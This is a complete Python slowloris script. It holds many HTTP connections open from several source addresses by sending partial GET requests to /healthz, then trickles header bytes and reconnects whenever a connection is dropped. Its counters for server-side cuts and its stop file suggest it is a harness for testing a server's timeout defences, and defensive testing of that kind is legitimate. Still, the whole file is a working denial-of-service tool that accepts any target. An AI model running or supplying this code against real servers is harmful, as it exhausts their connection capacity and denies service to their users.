#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""A slowloris attacker: holds HTTP connections open by never finishing
the request headers, from several source addresses at once.

Usage: slowloris.py --sources IP[,IP...] --target HOST:PORT [--target ...]
                    [--per-source N] [--byte-every S] --until FILE

For every source address and target it keeps N connections (default 8)
open: each sends the start of a GET and then one more header byte every S
seconds (default 1); a connection the server closes is opened again at
once. Stops when FILE exists and prints one line of totals:

  opened N cut N refused N max_open N

opened: connections established; cut: of them, closed by the server after
at least one trickled byte (a deadline); refused: connections refused,
reset or closed before a byte was trickled; max_open: the most held open
at one time.
"""
import argparse
import os
import selectors
import socket
import time

HEAD = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: "


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--sources", required=True)
    ap.add_argument("--target", action="append", required=True)
    ap.add_argument("--per-source", type=int, default=8)
    ap.add_argument("--byte-every", type=float, default=1.0)
    ap.add_argument("--until", required=True)
    a = ap.parse_args()
    targets = []
    for t in a.target:
        host, port = t.rsplit(":", 1)
        targets.append((host, int(port)))
    slots = [(src, tgt) for src in a.sources.split(",") for tgt in targets
             for _ in range(a.per_source)]
    conns = {}  # slot index -> [socket, bytes trickled]
    stats = {"opened": 0, "cut": 0, "refused": 0, "max_open": 0}

    def connect(i):
        src, tgt = slots[i]
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(1)
        try:
            s.bind((src, 0))
            s.connect(tgt)
            s.sendall(HEAD)
        except OSError:
            s.close()
            stats["refused"] += 1
            return
        s.setblocking(False)
        stats["opened"] += 1
        conns[i] = [s, 0]

    def closed(i):
        s, trickled = conns.pop(i)
        s.close()
        stats["cut" if trickled else "refused"] += 1

    next_byte = time.monotonic()
    while not os.path.exists(a.until):
        for i in range(len(slots)):
            if i not in conns:
                connect(i)
        stats["max_open"] = max(stats["max_open"], len(conns))
        # Anything readable is the server closing (or answering: also done).
        for i in list(conns):
            try:
                conns[i][0].recv(4096)
                closed(i)
            except BlockingIOError:
                pass
            except OSError:
                closed(i)
        if time.monotonic() >= next_byte:
            next_byte += a.byte_every
            for i in list(conns):
                try:
                    conns[i][0].send(b"x")
                    conns[i][1] += 1
                except OSError:
                    closed(i)
        time.sleep(0.05)
    for s, _ in conns.values():
        s.close()
    print("opened %(opened)d cut %(cut)d refused %(refused)d max_open %(max_open)d" % stats)


if __name__ == "__main__":
    main()
